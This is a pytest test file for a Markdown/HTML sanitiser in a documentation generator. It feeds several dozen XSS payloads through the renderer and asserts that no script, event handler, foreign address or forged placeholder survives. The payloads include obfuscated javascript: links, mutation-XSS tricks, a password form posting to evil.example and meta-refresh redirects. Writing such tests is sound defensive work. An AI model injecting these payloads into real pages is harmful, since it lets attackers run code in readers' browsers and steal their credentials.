"""Nothing that a writer types becomes code in a reader's browser, and what is taken out is told."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from kbgen.markup import Settings, Text, render
from kbgen.markup.sanitise import ATTRIBUTES, NEVER, TAGS, allowed_tags

PLACEHOLDER = re.compile(r"kb-(?:link|image|film|poster|captions):[\d:]+")


def body(markdown: str, settings: Settings | None = None, **more: object):
    """Render a text that starts at line 10 of its file."""
    values = {
        "body": markdown,
        "path": "content/en/a.md",
        "line": 10,
        "locale": "en",
        "kind": "guide",
        "variables": {},
        "snippets": {},
        **more,
    }
    return render(Text(**values), settings or Settings())


def rules(result) -> list[tuple[str, int]]:
    """Return rule and line of each problem."""
    return [(problem.rule, problem.line) for problem in result.problems]


def attributes(html: str) -> list[tuple[str, str, str]]:
    """Return (tag, attribute, value) as a browser's parser sees them."""
    tree = LexborHTMLParser(f"<body>{html}</body>")
    return [(node.tag, name, value or "") for node in tree.css("body *") for name, value in node.attributes.items()]


def assert_harmless(html: str) -> None:
    """Fail if a browser would run, load or show anything that articles may not hold."""
    tree = LexborHTMLParser(f"<body>{html}</body>")
    tags = {node.tag for node in tree.css("body *")}
    assert not tags & (NEVER - {"body"}), tags & NEVER
    for tag, name, value in attributes(html):
        assert not name.startswith("on"), (tag, name)
        assert name not in {"style", "srcdoc", "formaction", "ping", "srcset", "background"}, (tag, name)
        if name in {"href", "src", "poster"}:
            assert re.match(r"(#|https?://|mailto:|tel:|kb-(link|image|film|poster|captions):\d)", value), (tag, name, value)
        if value.startswith("kb-") and ":" in value:
            assert PLACEHOLDER.fullmatch(value), value


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<a href=' \x01javascript:alert(1)'>x</a>",
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<div style="background:url(//evil.example)">x</div>',
    '<p class="x" dir=rtl onclick=alert(1)>x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<video src=kb-film:0 autoplay></video>",
    "<audio src=x autoplay>",
    "<link rel=stylesheet href=//evil.example>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](kb-link:7)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<javascript://x/%0aalert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x](a.png "\\" onerror=alert(1) x=\\"")',
    '![" onerror="alert(1)](a.png)',
    "![x](a.png){: onerror=alert(1) }",
    "[x](y){: onclick=alert(1) style=color:red }",
    "## H {: #kb-search onclick=alert(1) }",
    '## H {#x" onclick="alert(1)}',
    "p\n{: .x onmouseover=alert(1) }",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```html title="<img src=x onerror=alert(1)>"\nx\n```',
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '=== "<script>alert(1)</script>"\n    x',
    '*[HTML]: " onmouseover=alert(1)\n\nHTML',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    '++"<script>alert(1)</script>"++',
    "/// video | javascript:alert(1)\n///",
    "/// video | https://evil.example/x.mp4\n///",
    '/// video | x.webm\n    attrs: {onclick: "alert(1)", style: "x"}\n///',
    '/// video | x" onerror="alert(1).webm\n    captions: {"en\\" onload=\\"x": "a.vtt"}\n///',
    '<figure class="kb-film-0">x</figure><figure class="kb-film-99999999999">y</figure>',
    '<img src="kb-image:5" alt="x">',
    "<div markdown='1' onclick='alert(1)'>*x*</div>",
    "<div markdown>\n<script>alert(1)</script>\n</div>",
    "<pre><code class=x onclick=alert(1)><a href=javascript:alert(1)>x</a></code></pre>",
    '<td align="x&quot; onclick=alert(1)">',
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "- {}", "> {}", "Text {} text", "<div>\n{}\n</div>"])
def test_payloads_become_harmless(payload, frame):
    """Whatever is typed, a browser's parser finds no script, no handler, no foreign address and no forged placeholder."""
    lines = payload.split("\n")
    indent = {"- {}": "    ", "> {}": "> "}.get(frame, "")
    text = frame.format("\n".join([lines[0], *(indent + line if line else line for line in lines[1:])]))
    result = body(text, variables={"x": "<script>alert(1)</script>"})

    assert_harmless(result.html)


@given(
    st.lists(st.sampled_from([*PAYLOADS, *"<>\"&'`=/ \n\t[]()!{}:#", "a", "<b", "</", "-->", "<!--", "kb:", "title="]), max_size=12).map(
        "".join
    )
)
def test_mixtures_become_harmless(text):
    """Payloads cut into each other are no worse."""
    result = body(text)

    assert_harmless(result.html)


@pytest.mark.parametrize(
    "frame",
    [
        '<a title="{}">x</a>',
        "{{{{ x }}}}",
        '![{{{{ x }}}}](a.png "{{{{ x }}}}")',
        '<p title="{{{{ x }}}}">{{{{ x }}}}</p>',
        "[t]({{{{ x }}}})",
    ],
)
@pytest.mark.parametrize("value", ['"><script>alert(1)</script>', "javascript:alert(1)", "**bold** <b>", "' onclick='alert(1)"])
def test_values_of_variables_are_plain_text(frame, value):
    """A variable's value is never read as HTML, nor as an address that runs code."""
    result = body(frame.format(value), variables={"x": value})

    assert_harmless(result.html)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<script>x</script>", ("KB801", 12)),
        ("text <iframe src=x></iframe>", ("KB801", 12)),
        ("<b onclick=x>y</b>", ("KB801", 12)),
        ("<p style='x'>y</p>", ("KB801", 12)),
        ("[x](javascript:y)", ("KB805", 12)),
        ("<a href='java&#9;script:y'>x</a>", ("KB805", 12)),
        ("[x](java\tscript:y)", ("KB805", 12)),
        ("[x](&#106;avascript:y)", ("KB805", 12)),
        ("[x](//evil.example/y)", ("KB805", 12)),
        ("[x](/en/a/)", ("KB805", 12)),
        ("![x](https://evil.example/y.png)", ("KB305", 12)),
        ("![x](//evil.example/y.png)", ("KB305", 12)),
        ("![x](data:image/png;base64,AA)", ("KB805", 12)),
    ],
)
def test_what_is_taken_out_is_told_with_its_line(html, expected):
    """Each removal is a problem at the line where it was typed."""
    result = body(f"One.\n\n{html}\n\n`{html}`")

    assert rules(result) == [expected]


@pytest.mark.parametrize(
    "code", ["`<script>`", "```\n<script onclick=x>\n```", "    <script>", "`[x](javascript:y)`", "a < b and `x` > c", "&lt;script&gt;"]
)
def test_code_is_no_html(code):
    """HTML that is shown as text is not reported."""
    assert rules(body(f"One.\n\n{code}\n")) == []


def test_escaped_html_is_shown_as_written():
    """With raw_html = "escape" tags are text, and nothing is taken out."""
    result = body("<div>\n*x* <b>y</b>\n</div>", Settings(raw_html="escape"))

    assert "&lt;div&gt;" in result.html
    assert "&lt;b&gt;y&lt;/b&gt;" in result.html
    assert "<em>x</em>" in result.html
    assert rules(result) == []


def test_sites_may_allow_elements_but_never_dangerous_ones():
    """allow_tags adds elements; script, svg and forms stay out."""
    assert "audio" in allowed_tags(("audio",))
    assert allowed_tags(("script", "SVG", "form", "style")) == TAGS


def test_allow_list_holds_nothing_that_runs():
    """No attribute of the list is a handler, a style or an address other than href and src."""
    names = {name for values in ATTRIBUTES.values() for name in values}

    assert not TAGS & NEVER
    assert not {name for name in names if name.startswith("on")}
    assert (
        names & {"style", "srcset", "action", "formaction", "srcdoc", "poster", "data", "xlink:href", "cite", "background", "name"} == set()
    )


@pytest.mark.parametrize(
    "text",
    ["<!-- open", "```\nopen", "</div>", '<noscript><p title="</noscript><img', "<div><p>", "<table><tr><td>", "<a href='", "**<b>**"],
)
def test_broken_markup_gives_well_formed_html(text):
    """A browser's parser reads the result without repairing it: reading and writing it again changes nothing."""
    html = body(text).html
    tree = LexborHTMLParser(f"<!doctype html><html><head></head><body>{html}</body></html>")
    again = tree.body.html.removeprefix("<body>").removesuffix("</body>")

    assert again == html


def test_ids_of_the_theme_are_out_of_reach():
    """Ids that begin with kb- belong to the theme; a writer's are moved, and links to them follow."""
    result = body("## Search {#kb-search}\n\n[to](#kb-search)\n\n<p id='KB-x'>y</p>")

    assert 'id="h-kb-search"' in result.html
    assert 'href="#h-kb-search"' in result.html
    assert 'id="h-KB-x"' in result.html
    assert rules(result) == []
